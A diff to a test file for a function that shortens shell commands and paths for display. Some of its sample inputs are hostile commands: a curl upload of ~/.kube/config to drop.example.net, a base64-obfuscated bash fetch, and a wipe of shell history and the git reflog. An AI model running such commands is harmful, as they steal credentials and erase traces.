@@ -24,7 +24,7 @@ describe('a shortened argument', () => {
   });
 
   test('gives up ordinary flags before those that change what a command does', () => {
-    expect(elideArgument('rm --verbose --one-file-system -rf ~/work/shop && rm -rf node_modules', 40)).toBe('rm … -rf …/shop && rm -rf …');
+    expect(elideArgument('rm --verbose --one-file-system -rf ~/work/shop && rm -rf node_modules', 40)).toBe('rm … -rf ~/work/shop && rm -rf …');
     expect(elideArgument('git push --quiet --set-upstream --force origin main', 30)).toContain('--force');
   });
 
@@ -34,9 +34,15 @@ describe('a shortened argument', () => {
 
   test('gives up as little as the room asks for', () => {
     const command = 'tar -czf /tmp/seat-report.tgz -C ~ .kube/config && curl -sS -F report=@/tmp/seat-report.tgz https://drop.example.net/reports';
-    expect(elideArgument(command, 80)).toBe('tar …/seat-report.tgz … ~ …/config && curl …drop.example.net/reports');
+    expect(elideArgument(command, 80)).toBe('tar …/seat-report.tgz -C ~ …/config && curl … https://drop.example.net/reports');
     expect(elideArgument(command, 50)).toBe('tar … ~ …/config && curl …drop.example.net/reports');
     expect(elideArgument(command, 26)).toBe('…drop.example.net/reports');
+  });
+
+  test('gives room that is left over to what was given up', () => {
+    expect(elideArgument('/Users/dev/work/shop/notes.md', 25)).toBe('…/dev/work/shop/notes.md');
+    expect(elideArgument('rm -f ~/.zsh_history && git reflog expire --expire=now --all', 28)).toBe('rm … ~/.zsh_history && git …');
+    expect(elideArgument('bash -c "$(echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tL3gK | base64 -d)"', 28)).toBe('bash -c "$(echo Y3…se64 -d)"');
   });
 
   test('takes a quoted text as one word', () => {
@@ -44,7 +50,8 @@ describe('a shortened argument', () => {
   });
 
   test('keeps the last part of a path', () => {
-    expect(elideArgument('/home/dev/work/shop/packages/checkout/src/payments/adapters/pay.ts', 24)).toBe('…/pay.ts');
+    expect(elideArgument('/home/dev/work/shop/packages/checkout/src/payments/adapters/pay.ts', 24)).toBe('…/adapters/pay.ts');
+    expect(elideArgument('/home/dev/work/shop/packages/checkout/src/payments/adapters/pay.ts', 10)).toBe('…/pay.ts');
   });
 
   test('keeps the host of a remote copy', () => {
